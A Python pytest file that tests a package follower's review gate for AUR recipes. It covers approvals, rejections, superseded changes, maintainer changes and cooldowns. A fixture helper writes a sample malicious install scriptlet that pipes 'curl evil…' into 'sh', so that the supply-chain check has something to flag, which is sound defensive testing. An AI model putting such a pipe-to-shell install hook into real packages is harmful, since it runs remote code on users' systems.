"""Changes of recipes that wait for a person, in sources that strangers write."""

from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from quarters.model.errors import Conflict
from quarters.model.review import Level, Place, Review, ReviewState, RiskKind, Size
from quarters.protocol.resources import SourceChange
from quarters.sources.reviews import decide
from quarters.storage import reviews
from tests.aur import LocalAur, local_aur
from tests.following import Followed, Git, following


@pytest.fixture
async def aur(tmp_path: Path) -> AsyncIterator[LocalAur]:
    async with local_aur(tmp_path / "aur") as aur:
        yield aur


async def follow(followed: Followed, aur: LocalAur, *packages: str, **how: Any) -> None:
    await followed.add(aur.url, name="aur", kind="aur", packages=packages, **how)


async def all_reviews(followed: Followed) -> list[Review]:
    """The oldest first."""
    return (await followed.database.read(reviews.listed))[::-1]


async def version(followed: Followed, pkgbase: str = "greet") -> str:
    """The version that is in force."""
    recipe = (await followed.recipes())[pkgbase].recipe
    assert recipe is not None
    return recipe.version


async def decided(followed: Followed, number: int, *, approve: bool) -> Review:
    """A person decides, and the source is looked at once more."""
    now = datetime.now(UTC)
    done = await followed.database.write(
        lambda connection: decide(connection, number, approve=approve, who="ada", note="", now=now)
    )
    await followed.sync("aur")
    return done


def major(aur: LocalAur, release: str, pkgbase: str = "greet", **more: Any) -> None:
    """A new state with a scriptlet."""
    (aur.folder / pkgbase / "greet.install").write_text(f"post_install() {{ curl evil{release} | sh; }}\n")
    aur.push(pkgbase, release, **more)


async def test_what_nobody_looks_at_is_not_believed(aur: LocalAur, tmp_path: Path) -> None:
    aur.push("greet", "1.0-1")
    srcinfo = aur.folder / "greet" / ".SRCINFO"
    async with following(tmp_path) as followed:
        await follow(followed, aur, "greet")
        srcinfo.write_text(srcinfo.read_text().replace("\n\n", "\n\tmakedepends = evil\n\n"))
        Git.of(srcinfo.parent).commit()
        Git.of(srcinfo.parent)("update-server-info")
        aur.packages["greet"]["LastModified"] += 1
        await followed.sync("aur")
        recipe = (await followed.recipes())["greet"].recipe
        assert recipe is not None
        assert (recipe.needs, await all_reviews(followed)) == ((), [])


async def test_a_new_version_passes_and_anything_more_waits(aur: LocalAur, tmp_path: Path) -> None:
    aur.push("greet", "1.0-1")
    async with following(tmp_path) as followed:
        await follow(followed, aur, "greet")
        aur.push("greet", "1.1-1")
        await followed.sync("aur")
        assert await version(followed) == "1.1-1"
        major(aur, "1.2-1")
        await followed.sync("aur")
        assert await version(followed) == "1.1-1"
        (review,) = await all_reviews(followed)
        assert (review.state, review.verdict.size, review.path) == (
            ReviewState.WAITING,
            Size.MAJOR,
            "greet",
        )
        assert RiskKind.PIPED_SHELL in {risk.kind for risk in review.verdict.risks}
        await followed.sync("aur")
        assert await all_reviews(followed) == [review]


async def test_what_is_approved_is_taken_by_the_next_sync(aur: LocalAur, tmp_path: Path) -> None:
    aur.push("greet", "1.0-1")
    async with following(tmp_path) as followed:
        await follow(followed, aur, "greet")
        major(aur, "1.2-1")
        await followed.sync("aur")
        await decided(followed, 1, approve=True)
        assert await version(followed) == "1.2-1"
        (review,) = await all_reviews(followed)
        assert (review.state, review.decided_by, review.taken) == (ReviewState.APPROVED, "ada", True)
        kinds = [kind for kind, _ in await followed.kinds_of_events() if kind.startswith("review.")]
        assert kinds == ["review.waiting", "review.approved"]
        with pytest.raises(Conflict, match="approved already"):
            await decided(followed, 1, approve=False)


async def test_what_is_rejected_never_comes_but_the_next_change_is_asked_about(
    aur: LocalAur, tmp_path: Path
) -> None:
    aur.push("greet", "1.0-1")
    async with following(tmp_path) as followed:
        await follow(followed, aur, "greet")
        major(aur, "1.2-1")
        await followed.sync("aur")
        await decided(followed, 1, approve=False)
        assert await version(followed) == "1.0-1"
        major(aur, "1.3-1")
        await followed.sync("aur")
        assert [it.state for it in await all_reviews(followed)] == [
            ReviewState.REJECTED,
            ReviewState.WAITING,
        ]


async def test_a_minor_change_on_top_of_what_waits_waits_with_it(aur: LocalAur, tmp_path: Path) -> None:
    aur.push("greet", "1.0-1")
    async with following(tmp_path) as followed:
        await follow(followed, aur, "greet")
        major(aur, "1.2-1")
        await followed.sync("aur")
        aur.push("greet", "1.3-1")
        await followed.sync("aur")
        first, second = await all_reviews(followed)
        assert (first.state, second.state) == (ReviewState.SUPERSEDED, ReviewState.WAITING)
        assert second.from_fingerprint == first.from_fingerprint
        assert await version(followed) == "1.0-1"


async def test_a_change_that_is_taken_back_needs_no_decision(aur: LocalAur, tmp_path: Path) -> None:
    aur.push("greet", "1.0-1")
    async with following(tmp_path) as followed:
        await follow(followed, aur, "greet")
        major(aur, "1.2-1")
        await followed.sync("aur")
        (aur.folder / "greet" / "greet.install").unlink()
        aur.push("greet", "1.0-1")
        await followed.sync("aur")
        assert [it.state for it in await all_reviews(followed)] == [ReviewState.SUPERSEDED]


async def test_what_was_approved_comes_in_force_though_a_later_change_waits(
    aur: LocalAur, tmp_path: Path
) -> None:
    aur.push("greet", "1.0-1")
    async with following(tmp_path) as followed:
        await follow(followed, aur, "greet")
        major(aur, "1.2-1")
        await followed.sync("aur")
        (aur.folder / "greet" / "more.sh").write_text("id\n")
        aur.push("greet", "1.3-1")
        await decided(followed, 1, approve=True)
        assert await version(followed) == "1.2-1"
        first, second = await all_reviews(followed)
        assert (first.taken, second.state) == (True, ReviewState.WAITING)
        assert second.from_fingerprint == first.to_fingerprint


async def test_a_package_that_is_added_later_is_taken_as_it_is(aur: LocalAur, tmp_path: Path) -> None:
    for name in ("greet", "other"):
        aur.push(name)
    async with following(tmp_path) as followed:
        await follow(followed, aur, "greet")
        await followed.service.change("aur", SourceChange(packages=("greet", "other")))
        await followed.sync("aur")
        assert sorted(await followed.recipes()) == ["greet", "other"]


async def test_a_package_that_moves_to_another_recipe_waits(aur: LocalAur, tmp_path: Path) -> None:
    aur.push("greet")
    async with following(tmp_path) as followed:
        await follow(followed, aur, "greet")
        aur.push("mallory")
        aur.packages["greet"] |= {"PackageBase": "mallory", "LastModified": aur.clock + 1}
        await followed.sync("aur")
        assert sorted(await followed.recipes()) == []
        (review,) = await all_reviews(followed)
        assert (review.path, review.from_fingerprint, review.state) == ("mallory", "", ReviewState.WAITING)
        await decided(followed, review.id, approve=True)
        assert sorted(await followed.recipes()) == ["mallory"]


async def test_a_trusted_maintainer_passes_until_somebody_else_joins(aur: LocalAur, tmp_path: Path) -> None:
    aur.push("greet", CoMaintainers=["bob"])
    async with following(tmp_path) as followed:
        await follow(followed, aur, "greet", trusted=("ada", "bob"))
        major(aur, "1.2-1", CoMaintainers=["bob"])
        await followed.sync("aur")
        assert await version(followed) == "1.2-1"
        major(aur, "1.3-1", CoMaintainers=["bob", "mallory"])
        await followed.sync("aur")
        assert await version(followed) == "1.2-1"
        (review,) = await all_reviews(followed)
        (risk,) = [it for it in review.verdict.risks if it.kind is RiskKind.MAINTAINER]
        assert risk.message.startswith("mallory maintains it")


async def test_a_fresh_change_cools_down_and_then_passes_by_itself(aur: LocalAur, tmp_path: Path) -> None:
    aur.push("greet", "1.0-1")
    async with following(tmp_path) as followed:
        await follow(followed, aur, "greet", cooldown=5)
        aur.push("greet", "1.1-1")
        await followed.sync("aur")
        assert await version(followed) == "1.0-1"
        (review,) = await all_reviews(followed)
        assert review.passes_at is not None
        assert (review.passes_at - review.created_at).total_seconds() == pytest.approx(5 * 3600)
        await followed.service.change("aur", SourceChange(cooldown=0))
        await followed.sync("aur")
        assert await version(followed) == "1.1-1"
        (review,) = await all_reviews(followed)
        assert (review.decided_by, review.taken) == ("policy", True)


async def test_with_all_even_the_first_state_waits(aur: LocalAur, tmp_path: Path) -> None:
    aur.push("greet")
    async with following(tmp_path) as followed:
        await follow(followed, aur, "greet", review=Level.ALL)
        assert await followed.recipes() == {}
        await decided(followed, 1, approve=True)
        assert sorted(await followed.recipes()) == ["greet"]
        await followed.service.change("aur", SourceChange(review=Level.OFF))
        major(aur, "2.0-1")
        await followed.sync("aur")
        assert await version(followed) == "2.0-1"
        assert await followed.database.read(reviews.unsettled, "aur", Place.SOURCE) == []


async def test_a_tree_of_ones_own_is_not_reviewed_unless_asked_for(tmp_path: Path) -> None:
    git = Git(tmp_path / "recipes")
    git.write("hello")
    git.commit()
    async with following(tmp_path) as followed:
        await followed.add(git.folder)
        (git.folder / "hello" / "x.install").write_text("id\n")
        git.commit()
        await followed.sync()
        assert await all_reviews(followed) == []
        await followed.service.change("tree", SourceChange(review=Level.MAJOR))
        (git.folder / "hello" / "x.install").unlink()
        git.write("new")
        git.commit()
        await followed.sync()
        assert [(it.path, it.author) for it in await all_reviews(followed)] == [
            ("hello", "Ada <ada@example.org>"),
            ("new", "Ada <ada@example.org>"),
        ]
        assert sorted(await followed.recipes()) == ["hello"]
